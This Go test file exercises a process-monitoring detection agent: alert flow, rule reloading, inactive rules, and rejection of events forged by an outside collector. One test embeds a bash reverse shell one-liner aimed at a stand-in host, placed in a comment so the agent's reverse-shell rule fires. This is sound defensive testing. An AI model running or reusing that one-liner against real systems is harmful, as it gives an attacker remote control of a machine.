package agent_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/daemoneye/eventbus/agent"
	"github.com/daemoneye/eventbus/agent/alert"
	"github.com/daemoneye/eventbus/agent/alert/store"
	"github.com/daemoneye/eventbus/agent/collector"
	"github.com/daemoneye/eventbus/agent/collector/process"
	"github.com/daemoneye/eventbus/agent/config"
	"github.com/daemoneye/eventbus/agent/control"
	"github.com/daemoneye/eventbus/agent/event"
	"github.com/daemoneye/eventbus/frame"
	"github.com/daemoneye/eventbus/ipc"
	"github.com/daemoneye/eventbus/router"
)

// awaitAlert returns the first alert of that rule for which wanted is true.
func awaitAlert(t *testing.T, sub router.Subscriber, title string, wanted func(*alert.Alert) bool) (a *alert.Alert) {
	t.Helper()
	await(t, sub, "an alert "+title, func(m *router.Message) bool {
		if m.Gap != nil {
			return false
		}
		a = &alert.Alert{}
		if err := json.Unmarshal(m.Payload, a); err != nil {
			t.Fatal(err)
		}
		return a.Rule.Title == title && wanted(a)
	})
	return a
}

func whichever(*alert.Alert) bool { return true }

// polling is the collector of processes that needs no rights.
var polling = control.ChildConfig{Collector: process.Name, Settings: json.RawMessage(`{"source":"poll","poll_interval":20000000}`)}

// TestAProgramThatARuleCatchesRaisesAnAlert is the way of an alert through all parts: the
// kernel, a collector's process, the bus, a built-in rule, the journal, the bus, another
// process. When the agent has ended, the alert is there.
func TestAProgramThatARuleCatchesRaisesAnAlert(t *testing.T) {
	o := agent.Options{
		DataDir: filepath.Join(t.TempDir(), "alerts"), Collectors: []control.ChildConfig{polling},
		Config: configured(func(c *config.Config) { c.Labels = map[string]string{"env": "test"} }),
	}
	r := start(t, o)
	client := r.dial(ipc.ClientOptions{})
	sub := subscribe(t, client, router.Subscription{Patterns: []string{"alerts.#"}})
	seen := subscribe(t, client, router.Subscription{Patterns: []string{"events.process.#"}, ReplayFrom: 1})
	await(t, seen, "what runs already", func(*router.Message) bool { return true })

	shell := exec.Command("/bin/sh", "-c", "sleep 1000 # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\ntrue")
	if err := shell.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = shell.Process.Kill()
		_ = shell.Wait()
	}()
	a := awaitAlert(t, sub, "Reverse shell in a command line", func(a *alert.Alert) bool { return strings.Contains(string(a.Event), "192.0.2.1") })
	var e struct {
		Process struct {
			PID    int `json:"pid"`
			Parent struct {
				PID int `json:"pid"`
			} `json:"parent"`
		} `json:"process"`
	}
	if err := json.Unmarshal(a.Event, &e); err != nil {
		t.Fatal(err)
	}
	if e.Process.PID != shell.Process.Pid || e.Process.Parent.PID != os.Getpid() {
		t.Errorf("it is of process %d, child of %d", e.Process.PID, e.Process.Parent.PID)
	}
	if a.Rule.Level < alert.High || len(a.Matched) == 0 || a.Count != 1 || a.Labels["env"] != "test" || a.Raised.IsZero() || len(a.Context) == 0 {
		t.Errorf("%+v", a)
	}
	if s := status(t, client); s.Detection.Alerts == 0 || s.Detection.Rules.Active == 0 || s.Parts["alerts"].State != control.Healthy {
		t.Errorf("detection is %+v, parts %+v", s.Detection, s.Parts)
	}
	r.stop()

	kept, err := store.ReadDir(o.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	defer kept.Close()
	all, _, err := kept.Query(store.Filter{})
	if err != nil || !slices.ContainsFunc(all, func(x *alert.Alert) bool { return x.ID == a.ID }) {
		t.Errorf("of the alerts %v is none %v, %v", all, a.ID, err)
	}
}

// TestADataDirectoryHasOneAgent: the second one does not start, and its error has the
// first one's pid.
func TestADataDirectoryHasOneAgent(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "alerts")
	start(t, agent.Options{DataDir: dir})
	a, err := agent.New(agent.Options{DataDir: dir, Config: at(socket(t))})
	if err != nil {
		t.Fatal(err)
	}
	var used *store.InUseError
	if err := a.Run(t.Context()); !errors.As(err, &used) || used.Dir != dir {
		t.Errorf("Run = %v", err)
	}
}

// ask sends an empty request and returns the answer.
func ask[T any](t *testing.T, c *ipc.Client, target string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	reply, err := c.Request(ctx, target, nil)
	if err != nil {
		t.Fatal(err)
	}
	return parse[T](t, reply.Payload)
}

// ruleOf is a rule for events that a test publishes.
func ruleOf(title string) string {
	return "title: " + title + `
id: 0d3c8f4e-2a51-4a8e-9f5e-7e0b2f6f0001
level: critical
logsource: {category: process_creation}
detection: {s: {Image|endswith: /made-up}, condition: s}
`
}

// TestRulesAreReloaded by a request, by a reload of the configuration and because a file
// changed, and whoever asks gets to know what became of them.
func TestRulesAreReloaded(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "own.yml")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(ruleOf("first"))
	c := configured(func(c *config.Config) {
		c.Detection.Rules, c.Detection.Watch, c.Detection.BuiltIn = []string{dir}, false, false
		c.Broker.SocketPath = socket(t)
	})
	next := &nextConfig{c: *c}
	r := start(t, agent.Options{Config: c, Load: next.load})
	client := r.dial(ipc.ClientOptions{})
	sub := subscribe(t, client, router.Subscription{Patterns: []string{"alerts.#"}})
	publish := func() {
		t.Helper()
		body := `{"event":{"action":"start"},"process":{"executable":"/bin/made-up"}}`
		if err := client.Publish(t.Context(), router.Outgoing{Topic: "events.process.test", Payload: []byte(body), Content: frame.ContentJSON}); err != nil {
			t.Fatal(err)
		}
	}
	publish()
	awaitAlert(t, sub, "first", whichever)

	write(ruleOf("second"))
	report := ask[control.RulesReport](t, client, control.RulesReloadTarget)
	if report.Active != 1 || report.Unchanged || report.Errors != 0 {
		t.Errorf("%+v", report)
	}
	publish()
	awaitAlert(t, sub, "second", whichever)

	write("title: [")
	report = ask[control.RulesReport](t, client, control.RulesReloadTarget)
	if report.Active != 1 || report.Errors == 0 || !slices.Equal(report.Kept, []string{path}) || !strings.HasPrefix(report.Problems[0].String(), path+":1") {
		t.Errorf("%+v", report)
	}
	if h := status(t, client).Parts["detection"]; h.State != control.Degraded || !strings.Contains(h.Reason, path) {
		t.Errorf("health is %+v", h)
	}

	next.change(func(c *config.Config) { c.Detection.Watch = true })
	if got := ask[control.Reloaded](t, client, control.ReloadTarget); got.Rules == nil || len(got.Rules.Kept) != 1 || len(got.Changes) != 1 {
		t.Errorf("%+v", got)
	}
	write(ruleOf("third"))
	eventually(t, "the rule is read", func() bool {
		page := ask[control.RulesPage](t, client, control.RulesListTarget)
		return len(page.Rules) == 1 && page.Rules[0].Title == "third" && page.Rules[0].Active
	})

	next.change(func(c *config.Config) { c.Detection.Include = []string{"nothing"} })
	if got := ask[control.Reloaded](t, client, control.ReloadTarget); len(got.Mistakes) != 1 || !strings.Contains(got.Mistakes[0], "detection.include") {
		t.Errorf("%+v", got)
	}
	next.change(func(c *config.Config) { c.Detection.Include, c.Detection.Exclude = nil, []string{"level:critical"} })
	if got := ask[control.Reloaded](t, client, control.ReloadTarget); got.Rules.Active != 0 || got.Rules.LeftOut != 1 {
		t.Errorf("%+v", got.Rules)
	}
}

// nextConfig is what a reload loads. Safe for concurrent use.
type nextConfig struct {
	mu sync.Mutex
	c  config.Config
}

func (n *nextConfig) change(f func(*config.Config)) {
	n.mu.Lock()
	defer n.mu.Unlock()
	f(&n.c)
}

func (n *nextConfig) load() (*config.Loaded, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	c := n.c
	return &config.Loaded{Config: &c}, nil
}

// TestARuleForEventsThatNobodyCollectsIsInactive, until a reload has a collector for them.
func TestARuleForEventsThatNobodyCollectsIsInactive(t *testing.T) {
	c := configured(func(c *config.Config) {
		c.Broker.SocketPath = socket(t)
		c.Collectors.Network.Enabled = false
	})
	next := &nextConfig{c: *c}
	r := start(t, agent.Options{Config: c, Load: next.load})
	client := r.dial(ipc.ClientOptions{})
	before := status(t, client).Detection.Rules
	if before.Inactive == 0 || before.InactiveBy["log source"] == 0 {
		t.Errorf("%+v", before)
	}
	page := ask[control.RulesPage](t, client, control.RulesListTarget)
	if !slices.ContainsFunc(page.Rules, func(x control.RuleInfo) bool { return x.Inactive == "no collector of network events is enabled" }) {
		t.Errorf("%+v", page)
	}
	next.change(func(c *config.Config) { c.Collectors.Network.Enabled = true })
	if got := ask[control.Reloaded](t, client, control.ReloadTarget); got.Rules == nil || got.Rules.Active <= before.Active || got.Rules.Active+got.Rules.Inactive != before.Active+before.Inactive {
		t.Errorf("%+v", got.Rules)
	}
	page = ask[control.RulesPage](t, client, control.RulesListTarget)
	if slices.ContainsFunc(page.Rules, func(x control.RuleInfo) bool { return x.Inactive == "no collector of network events is enabled" }) {
		t.Errorf("%+v", page)
	}
}

func TestWithoutDetectionThereIsNone(t *testing.T) {
	r := start(t, agent.Options{Config: configured(func(c *config.Config) { c.Detection.Enabled = false })})
	s := status(t, r.dial(ipc.ClientOptions{}))
	if _, ok := s.Parts["detection"]; ok || s.Detection != nil {
		t.Errorf("detection is %+v, parts %+v", s.Detection, s.Parts)
	}
	if slices.ContainsFunc(s.Broker.Subscriptions, func(x router.SubStats) bool { return x.Name == "detection-engine" }) {
		t.Error("it subscribes all the same")
	}
}

// TestAnExternalCollectorCannotForgeAnothersEvents: an event of a process, of a collector
// that is not the agent's own of processes, is not looked at, whatever is in it.
func TestAnExternalCollectorCannotForgeAnothersEvents(t *testing.T) {
	r := start(t, agent.Options{Collectors: []control.ChildConfig{polling}, Configured: external(ours)})
	e := event.Process{Header: event.Header{Type: event.TypeProcess, Operation: event.OpStart, PID: 7}, Actor: event.Actor{Executable: "/tmp/made-up"}}
	forged := e.Append(nil)
	runExternal(t, r.socket, func(ctx context.Context, emit collector.Emit) error {
		emit(collector.Message{Topic: "events.gpu.heat", Payload: forged, EventType: "process"})
		return idle(ctx, emit)
	})
	client := r.dial(ipc.ClientOptions{})
	eventually(t, "the forged event is counted", func() bool { return status(t, client).Detection.Forged == 1 })
	s := status(t, client)
	if !strings.Contains(s.Detection.Forger, `name "gpu"`) || s.Parts["detection"].State != control.Degraded {
		t.Errorf("the forger is %q, detection %+v", s.Detection.Forger, s.Parts["detection"])
	}
	if !strings.Contains(r.log.String(), "event dropped by detection") {
		t.Errorf("log:\n%s", r.log)
	}
}
